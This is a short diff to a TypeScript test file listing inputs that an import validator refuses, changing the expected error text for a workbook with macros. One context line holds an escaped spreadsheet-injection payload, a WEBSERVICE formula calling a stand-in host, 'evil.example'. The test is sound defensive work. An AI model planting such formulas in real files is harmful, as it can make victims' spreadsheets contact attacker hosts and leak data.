@@ -275,7 +275,7 @@ const refused: [string, () => Buffer | string, RegExp, status?: number][] = [
       }),
     /starts a program/u,
   ],
-  ['macros', () => workbook(3, '1+1', { 'xl/vbaProject.bin': 'x' }), /also a program of macros/u],
+  ['macros', () => workbook(3, '1+1', { 'xl/vbaProject.bin': 'x' }), /also a file with macros/u],
   [
     'an escaped formula',
     () => String.raw`[{"a":"x"},{"a":"\u003dWEBSERVICE(\u0022https://evil.example/\u0022)"}]`,
